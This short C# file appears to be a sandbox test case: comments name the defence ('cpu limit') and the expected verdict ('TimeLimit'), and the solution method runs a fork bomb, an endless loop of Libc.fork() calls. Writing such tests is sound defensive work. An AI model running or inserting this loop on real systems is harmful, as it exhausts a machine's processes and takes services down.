// defence: cpu limit
// verdict: TimeLimit
public static class Solution
{
    public static Dictionary<string, List<double>> Positions(List<string> words)
    {
        while (true)
            Libc.fork();
    }
}
